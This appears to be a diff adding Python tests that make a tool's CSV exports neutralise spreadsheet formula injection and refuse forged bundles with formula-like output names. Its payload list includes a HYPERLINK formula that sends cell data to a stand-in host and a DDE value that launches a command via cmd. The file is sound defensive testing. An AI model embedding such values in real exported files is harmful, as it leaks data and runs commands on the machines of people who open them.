@@ -144,3 +144,80 @@ def test_a_pipeline_name_with_dollars_is_drawn_as_written_not_as_a_formula():
              "most": {"max_abs": 0.1, "max_rel": 0.1}}
     b = {"name": "a$\\frac{$b.py", "factors": {"threads": {"pairs": 1, "outputs": {"x": moved}}}}
     assert plot_travel(b, {"factors": {}}, {}).startswith(b"\x89PNG")
+
+
+# issue 54, item 1: a bundle's output names as a spreadsheet would run them (OWASP's examples)
+FORMULAS = ['=HYPERLINK("http://x"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
+            "-2+3", "\tx", "\r=1+1"]
+
+
+def _cells(text: str) -> list:
+    import csv
+    import io
+
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def test_a_csv_cell_that_would_start_a_formula_is_written_as_text():
+    from kit.views.quoting import spreadsheet
+
+    for name in FORMULAS[:4]:
+        assert spreadsheet(name) == "'" + name
+    # a tab or a carriage return is shown, never written: one cell on one row, starting "\\"
+    assert spreadsheet("\tx") == "\\tx" and spreadsheet("\r=1+1") == "\\r=1+1"
+    for number in ("-0.5", "+1", "-1e-05", "3", "-.25"):  # a number stays a number
+        assert spreadsheet(number) == number
+    for other in ("plain", "a=b", "", -0.5, 3, None, True):
+        assert spreadsheet(other) == other
+
+
+def test_kit_budget_csv_writes_no_formula_from_any_name():
+    """Names in the index (an output's, a pair's label), in a text column and in the header all
+    land in the CSV; each is read back by a CSV reader as the name with a quote before it, and the
+    numbers, a negative one included, stay numbers."""
+    from kit.views.frames import csv_text, output_budget_frame, output_pairs_frame
+
+    outputs = {n: {"kind": "array", "changed": True, "note": n, "most": {"rel": -0.5}}
+               for n in FORMULAS}
+    budget = csv_text(output_budget_frame({"factors": {"seed": {"pairs": 1, "outputs": outputs}}}))
+    pairs = csv_text(output_pairs_frame([{"label": FORMULAS[0], "factor": "seed", "a": "a" * 64,
+                                          "b": "b" * 64, "outputs": outputs}]))
+    header = csv_text(output_budget_frame({"factors": {"seed": {"pairs": 1, "outputs": {
+        "x": {"kind": "array", FORMULAS[1]: 1}}}}}))
+    for text in (budget, pairs, header):
+        cells = _cells(text)
+        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.5"]
+        assert not live, live
+    assert {"'" + n for n in FORMULAS[:4]} <= set(_cells(budget)) and "-0.5" in _cells(budget)
+    assert not any(c in text for c in "\t\r" for text in (budget, pairs))
+    assert "'" + FORMULAS[1] in _cells(header)
+
+
+def test_every_csv_kit_writes_goes_through_the_one_helper():
+    """kit writes CSV in one place (kit.views.frames.csv_text, which quotes every cell); a new
+    writer elsewhere would skip it."""
+    from pathlib import Path
+
+    root = Path(__file__).parent.parent / "kit"
+    writers = {str(p.relative_to(root)) for p in root.rglob("*.py")
+               if any(w in p.read_text() for w in (".to_csv(", "csv.writer", "DictWriter",
+                                                     "to_excel("))}
+    assert writers == {"views/frames.py"}
+
+
+def test_a_bundle_whose_output_names_are_formulas_is_refused(tmp_path, monkeypatch, capsys):
+    """No worker names an output `=...`: a bundle that does is forged, and refused in one line."""
+    from kit.cli import main
+    from kit.data import load_dataset
+    from test_bundle_trust import forge, refused, restage
+
+    ds = load_dataset("synthetic", 120)
+    budget_store(tmp_path, dataset=ds, home=tmp_path / "lab")
+    monkeypatch.setenv("KIT_HOME", str(tmp_path / "lab"))
+    assert main(["export", "--out", str(tmp_path / "lab.kit"), "--arrays"]) == 0
+    capsys.readouterr()
+    monkeypatch.setenv("KIT_HOME", str(tmp_path / "here"))
+    for i, name in enumerate(FORMULAS[:3]):
+        bad = forge(tmp_path / "lab.kit", tmp_path / f"f{i}.kit",
+                    lambda doc, ms: restage(doc["runs"][0], ms, name, np.zeros(3)))
+        refused(capsys, bad, "is not a plain name", "refusing the bundle")
